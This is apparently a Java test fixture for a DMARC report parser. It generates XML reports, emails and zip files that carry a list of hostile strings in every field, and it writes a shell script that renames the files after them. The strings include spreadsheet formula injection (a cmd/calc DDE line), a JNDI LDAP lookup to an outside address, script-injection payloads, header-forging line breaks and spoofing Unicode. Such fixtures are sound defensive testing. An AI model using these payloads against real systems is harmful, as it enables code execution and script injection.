package dmarcreports;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** A mailbox in which every text that a stranger chooses means something to a machine. */
final class HostileTexts {
  static final List<String> ALL =
      List.of(
          "=1+1",
          "+1",
          "-1",
          "@SUM(1)",
          "\t=1",
          "\r=1",
          "\n=1",
          " =1",
          "\u00a0=1",
          "\u3000@a",
          "\uff1d1",
          "\uff0b1",
          "\uff0d1",
          "\uff20a",
          "\ufe63" + "1",
          "a\";=1",
          "a\t=1",
          "';=1,=1",
          "=cmd|' /C calc'!A0",
          "=HYPERLINK(\"http://192.0.2.1/\")",
          "\u009b31mred",
          "\u202egnp.exe",
          "\u200b=1",
          "a\u2028b=\u2029c",
          "a\u2066b\u2069c",
          "a\nforged: line",
          "a\r\nforged: line",
          "a\u0085next",
          "${jndi:ldap://192.0.2.1/x}",
          "%n%s%x{}",
          "|=1",
          "; =1 - | +1 ; @a",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "' autofocus onfocus='alert(1)",
          "]]></style><svg onload=alert(1)>",
          "javascript:alert(1)",
          "&lt;script&gt;alert(1)&lt;/script&gt;");

  private HostileTexts() {}

  static String xml(String text) {
    StringBuilder escaped = new StringBuilder();
    text.chars()
        .forEach(
            c -> {
              if (c < ' ' || "<>&\"'".indexOf(c) >= 0) {
                escaped.append("&#").append(c).append(';');
              } else {
                escaped.append((char) c);
              }
            });
    return escaped.toString();
  }

  /** A report with the text in all fields. */
  static String report(String text, String id, String domain) {
    return """
        <feedback><version>%1$s</version><report_metadata><org_name>%1$s</org_name>
        <email>%1$s</email><extra_contact_info>%1$s</extra_contact_info>
        <report_id>%2$s</report_id><error>%1$s</error><generator>%1$s</generator>
        <date_range><begin>1767225600</begin><end>1767311999</end></date_range></report_metadata>
        <policy_published><domain>%3$s</domain><adkim>%1$s</adkim><aspf>r</aspf><p>none</p>
        <sp>%1$s</sp><pct>%1$s</pct><fo>%1$s</fo></policy_published>
        <record><row><source_ip>192.0.2.1</source_ip><count>3</count><policy_evaluated>
        <disposition>none</disposition><dkim>fail</dkim><spf>fail</spf>
        <reason><type>%1$s</type><comment>%1$s</comment></reason></policy_evaluated></row>
        <identifiers><header_from>example.com</header_from><envelope_from>%1$s</envelope_from>
        <envelope_to>%1$s</envelope_to></identifiers>
        <auth_results><dkim><domain>%1$s</domain><selector>%1$s</selector><result>pass</result>
        <human_result>%1$s</human_result></dkim>
        <spf><domain>%1$s</domain><scope>%1$s</scope><result>%1$s</result>
        <human_result>%1$s</human_result></spf></auth_results></record>
        <record><row><source_ip>%1$s</source_ip><count>2</count></row><identifiers>
        <header_from>%1$s</header_from></identifiers></record></feedback>
        """
        .formatted(xml(text), xml(id), xml(domain));
  }

  private static String encoded(String text) {
    String base64 = Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    return "=?utf-8?B?" + base64 + "?=";
  }

  private static String mail(String text, String attached) {
    String raw = text.replaceAll("[\r\n]", "\u001b[31m");
    String percent =
        text.chars()
            .mapToObj(c -> c < 0x80 ? String.format("%%%02x", c) : "%1b")
            .reduce("", String::concat);
    return "Authentication-Results: "
        + raw
        + "; dkim=pass header.d="
        + raw
        + "; spf=\u001b[31m; dmarc="
        + encoded(text)
        + "\nFrom: "
        + encoded(text)
        + " <a@"
        + raw
        + ">\nSubject: "
        + raw
        + encoded(text)
        + "\nDate: "
        + raw
        + "\nMessage-ID: <"
        + raw
        + "@\u001b[31m>\nContent-Type: application/xml; name=\""
        + raw
        + "\"\nContent-Disposition: attachment; filename*=utf-8''"
        + percent
        + "\n\n"
        + attached;
  }

  private static byte[] zip(String text, String... reports) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (int i = 0; i < reports.length; i++) {
        zip.putNextEntry(new ZipEntry(text + i));
        zip.write(reports[i].getBytes(StandardCharsets.UTF_8));
      }
    }
    return bytes.toByteArray();
  }

  /**
   * Writes the mailbox.
   *
   * @return a script that gives its files and directories their names
   */
  static String write(Path inbox) throws IOException {
    Files.createDirectories(inbox);
    StringBuilder names = new StringBuilder("cd '" + inbox + "'\n");
    for (int i = 0; i < ALL.size(); i++) {
      String text = ALL.get(i);
      String good = report(text, text, "example.com");
      String broken = good.substring(0, good.length() - 20);
      Files.writeString(inbox.resolve(i + ".xml"), good);
      Files.writeString(inbox.resolve(i + ".broken"), broken);
      Files.writeString(inbox.resolve(i + ".domain"), report(text, text, text));
      Files.writeString(inbox.resolve(i + ".other"), good.replace(">3<", ">4<"));
      Files.writeString(
          inbox.resolve(i + ".eml"), mail(text, report(text, text + "m", "a.example")));
      Files.writeString(inbox.resolve(i + ".cut.eml"), mail(text, broken));
      Files.write(
          inbox.resolve(i + ".zip"), zip(text, report(text, text + "z", "b.example"), broken));
      String name = Jar.word(text.replace('/', '_'));
      names.append("mkdir -- " + name + "; mkfifo -- " + name + "/" + name + "\n");
      for (String end : List.of("xml", "broken", "domain", "other", "eml", "cut.eml", "zip")) {
        names.append("mv -- " + i + "." + end + " " + name + "/" + name + "." + end + "\n");
      }
    }
    return names.toString();
  }
}
